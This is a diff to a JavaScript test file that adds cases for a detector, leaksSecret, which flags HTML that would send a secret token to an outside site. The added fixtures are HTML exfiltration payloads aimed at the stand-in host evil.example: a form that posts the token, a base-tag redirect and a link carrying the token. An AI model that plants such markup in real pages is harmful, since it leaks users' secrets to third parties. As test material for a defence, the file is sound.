@@ -29,6 +29,9 @@ test('anywhere else it would be sent to others', () => {
     `<link rel="stylesheet" href="${ESCAPED}">`,
     `<base href="${ESCAPED}">`,
     '<template><img src="https://evil.example/abcDEF123"></template>',
+    '<form action="https://evil.example/"><textarea name=x>abcDEF123</textarea><button>Go on</button></form>',
+    '<base href="https://evil.example/"><p>abcDEF123</p>',
+    '<a href="abcDEF123">Go on</a>',
   ])
     assert.equal(leaksSecret(html, SECRETS), true, html)
 })
